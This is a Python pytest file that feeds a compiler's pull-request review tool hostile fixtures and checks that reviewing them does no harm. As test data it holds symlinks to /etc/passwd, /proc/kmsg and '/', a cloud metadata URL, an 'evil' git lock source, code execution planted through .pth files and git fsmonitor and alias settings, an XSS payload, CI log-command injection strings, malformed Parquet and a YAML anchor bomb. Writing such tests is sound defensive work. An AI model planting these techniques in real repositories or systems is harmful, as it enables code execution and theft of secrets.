"""Hostile pull requests of further kinds do no harm: links to endless files in a bundle with a finished run, Parquet
files that promise more than they contain, paths such as /dev/stdin, names and notes with encoded commands, locks that
name addresses.

All commands of a reviewer run, as in test_security_reviewed.py.
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest
from compile_support import put
from test_security_links import both
from test_security_reviewed import (
    CODE,
    MARK,
    ROW,
    SECRET,
    SPEC,
    assert_harmless,
    assert_no_commands,
    git,
    linked,
    reviewed,
    specs,
)
from test_security_reviewed import honest as honest
from tiers import nightly_but

from xpc.compiler.review import verify
from xpc.compiler.review.finished_run import bundle_digest

pytestmark = pytest.mark.slow

ENCODED = "a%0A::error title=x::y%25\u2028::warning::z\u202e"
NOTE = "because <img src=x onerror=alert(1)> @team ``` ##[add-mask]x %0A::error::x </details>"
LOCK = (
    '[lock]\nformat = 1\nxpc = "0"\ntarget = "trl-1.16"\n[environment."requirements.txt"]\nasked = []\n'
    "resolved = [{}]\n"
)


def finished(name: str, target: str, **more: object) -> Callable[[Path], None]:
    """Return a function that writes a finished run of the bundle, and, if there is a `name`, replaces the bundle's file
    of this name by a link to `target`.
    """

    def make(root: Path) -> None:
        facts = {
            "bundle": bundle_digest(str(root / "specs" / "a.bundle")), "steps": 10, "sequences": 40, "world": 2,
            "arguments": {}, "versions": {}, "data": {}, "files": {}, **more,
        }  # fmt: skip
        put(root / "specs", {"out/a/xpc_run.json": "{}", "out/a/summary.json": json.dumps(facts)})
        if name:
            linked(f"a.bundle/{name}", target)(root)

    return make


def parquet(rows: int, size: int, codec: int = 6) -> bytes:
    """A file of Parquet with one column `text`. The header of its only page claims `size` bytes and `rows` rows."""

    def number(value: int) -> bytes:
        value = value << 1 ^ value >> 63
        out = b""
        while value > 127:
            out, value = out + bytes([value & 127 | 128]), value >> 7
        return out + bytes([value])

    def text(value: str) -> bytes:
        return bytes([len(value)]) + value.encode()

    root = b"\x48" + text("s") + b"\x15" + number(1) + b"\x00"
    leaf = b"\x15" + number(6) + b"\x25" + number(0) + b"\x18" + text("text") + b"\x25" + number(0) + b"\x00"
    column = (
        b"\x15" + number(6) + b"\x19\x15" + number(0) + b"\x19\x18" + text("text") + b"\x15" + number(codec) + b"\x16"
        + number(rows) + b"\x16" + number(size) + b"\x16" + number(20) + b"\x26" + number(4) + b"\x00"
    )  # fmt: skip
    group = b"\x19\x1c" + b"\x26" + number(4) + b"\x1c" + column + b"\x00" + b"\x16" + number(size) + b"\x16"
    group += number(rows) + b"\x00"
    meta = b"\x15" + number(1) + b"\x19\x2c" + root + leaf + b"\x16" + number(rows) + b"\x19\x1c" + group + b"\x00"
    return b"PAR1" + b"\x28\xb5\x2f\xfd" + bytes(16) + meta + len(meta).to_bytes(4, "little") + b"PAR1"


def of(data: str) -> dict[str, str | bytes]:
    return {"a.xp": SPEC.replace("rows.jsonl", data)}


def lock(line: str) -> Callable[[Path], None]:
    return specs({"a.xp.lock": LOCK.format(json.dumps(line))})


METRICS = json.dumps({"loss": "y" * 10**7}) + "\n"
PART = hashlib.sha256(hashlib.sha256(METRICS.encode()).digest()).hexdigest()
LOSSES = both(
    finished("", "", files={"metrics.jsonl": [len(METRICS), PART]}, first_loss="x" * 10**7),
    specs({"out/a/metrics.jsonl": METRICS}),
)
REFUSED = ("open of /dev/zero ", "open of /proc/kmsg ", "open of {above}/secret ")
"""Findings of the audit hook that are allowed. The hook reports the target of a link even if xpc refuses the link.
Files of rows may be outside of the repository.
"""
EVIL: dict[str, Callable[[Path], None]] = {
    "packages without an end of a bundle with a run": finished("requirements.txt", "/dev/zero"),
    "packages of a bundle with a run, a link to a secret": finished("requirements.txt", "{root}/../secret"),
    "arguments without an end of a bundle with a run": finished("trainer_args.json", "/dev/zero"),
    "a spec without an end of a bundle with a run": finished("spec.xp", "/dev/zero"),
    "a manifest without an end of a bundle with a run": finished("bundle.toml", "/dev/zero"),
    "the trainer of a bundle with a run, a link to everything": finished("trainer", "/"),
    "a run with a version of megabytes": finished("", "", versions={"trl": "9" * 10**7}),
    "a run whose losses are megabytes": LOSSES,
    "Parquet of 10**18 rows": specs({"r.parquet": parquet(10**18, 1), **of("r.parquet")}),
    "Parquet of petabytes": specs({"r.parquet": parquet(1, 10**15), **of("r.parquet")}),
    "Parquet of less than no rows": specs({"r.parquet": parquet(-5, -5), **of("r.parquet")}),
    "a base that is the standard input": specs({"a.xp": 'xpc 1\n\nextends "/dev/stdin"\n'}),
    "rows that are the standard input": specs(of("/dev/stdin")),
    "rows that are a link to the standard input": linked("r.jsonl", "/dev/stdin", of("r.jsonl")),
    "rows that are a link to a terminal": linked("r.jsonl", "/dev/tty", of("r.jsonl")),
    "rows that are a link to the kernel's log": linked("r.jsonl", "/proc/kmsg", of("r.jsonl")),
    "rows that are a link to an open file": linked("r.jsonl", "/proc/self/fd/0", of("r.jsonl")),
    "rows of an address": specs(of("http://169.254.169.254/latest/meta-data")),
    "rows of a file of the hub": specs(of("hf://datasets/a/b/c.jsonl")),
    "a name with encoded commands": specs({f"{ENCODED}.xp": SPEC, f"{ENCODED}.preview": "a\r::error::b\r\n"}),
    "a note with markup and commands": specs({
        "a.xp": SPEC.replace("save", f"# xpc: allow XP330 {NOTE}\n# {NOTE}\nsave") + f"# xpc: allow XP000 {NOTE}\n",
    }),
    "a note on a line of another kind": specs({"a.xp": SPEC + "# a\u2028::error::x\u0085##[group]x\x0b\x0c\n"}),
    "a lock with an address": lock("trl @ git+https://evil/x"),
    "a lock with an editable folder": lock("-e ."),
    "a lock with another file of packages": lock("-r /etc/passwd"),
    "a lock with a marker": lock("trl==1.16.0; python_version<'9' --hash=sha256:0"),
    "bytecode beside specs": specs({
        "__pycache__/json.cpython-311.pyc": CODE, "json.pyc": CODE, "x.pth": f"import os; os.system('touch {MARK}')\n",
        "usercustomize.py": CODE, "pyvenv.cfg": "home = .\n", "setup.cfg": "[x]\n", "../conftest.py": CODE,
        "a.bundle/trainer/json.pyc": CODE, "a.bundle/__pycache__/json.cpython-311.pyc": CODE,
    }),
    "configurations of git beside specs": specs({
        ".gitconfig": f"[core]\n\tfsmonitor = touch {MARK}\n", ".gitmodules": "[include]\n\tpath = ../secret\n",
        ".gitattributes": "*.xp filter=lfs diff=lfs merge=lfs ident\n* export-ignore\n",
        ".mailmap": "x" * 10**5, ".git-blame-ignore-revs": "x", "git/config": f"[alias]\n\tls-tree = !touch {MARK}\n",
    }),
    "a pointer with the digest of a path": specs({
        "rows.jsonl": "version https://git-lfs.github.com/spec/v1\noid sha256:../../../../../../secret\nsize 9\n",
    }),
    "a pointer to the largest file": specs({
        "rows.jsonl": f"version https://git-lfs.github.com/spec/v1\noid sha256:{'1' * 64}\nsize {9 * 10**18}\n",
    }),
    "tasks of merged anchors": specs({
        "a.xp": SPEC + 'eval {\n  tasks = ["t.yaml"]\n}\n',
        "t.yaml": "a0: &a0 {x: 1}\n"
        + "".join(f"a{n}: &a{n} {{<<: [*a{n - 1}, *a{n - 1}], y{n}: *a{n - 1}}}\n" for n in range(1, 60)),
    }),
    "a sweep over names of markup": specs({
        "a.xp": SPEC + f'sweep {{\n  track.name = ["</details><b>", "{MARK} @team", "::error::x", "../../../x"]\n}}\n',
    }),
    "members of a sweep that are a link to everything": both(
        specs({"s.bundle/sweep.toml": "[sweep]\n", "s.bundle/members.txt": "etc\n"}), linked("s.bundle/members", "/")
    ),
    "a bundle that is a link to another": linked("b.bundle", "a.bundle"),
    "rows in the coding of another": specs({"rows.jsonl": ROW.encode("utf-16") * 9, "u.jsonl": ROW.encode("utf-32")}),
}  # fmt: skip


@pytest.mark.parametrize("what", nightly_but(EVIL, lambda one: "with a run" in one))
def test_a_pull_request_of_another_kind_does_no_harm(what: str, honest: Path, tmp_path: Path) -> None:
    root = tmp_path / "work"
    shutil.copytree(honest, root, symlinks=True)
    put(tmp_path, {"secret": f"{SECRET}==1\n"})
    EVIL[what](root)
    git(root, "add", "-A", "-f")
    git(root, "commit", "-qm", "two")
    found = reviewed(root)
    assert isinstance(found["findings"], list)
    allowed = tuple(one.format(above=os.path.realpath(root.parent)) for one in REFUSED)
    assert not [one for one in found["findings"] if not one.startswith(allowed)]
    assert_harmless(found, root)
    assert len(str(found["comment"])) < 65_536
    printed = str(found["output"])
    assert len(printed) < 200_000
    assert_no_commands(printed)


def test_a_value_of_megabytes_of_a_run_is_cut(honest: Path, tmp_path: Path) -> None:
    root = tmp_path / "work"
    shutil.copytree(honest, root, symlinks=True)
    for one in (finished("", "", versions={"trl": "9" * 10**7}), LOSSES):
        one(root)
        words = ["specs/a.bundle", "--run", "specs/out/a"]
        text, status = verify.run(verify.parse([str(root / one) if one.startswith("specs") else one for one in words]))
        assert status == 1
        assert 100 < len(text) < 10_000
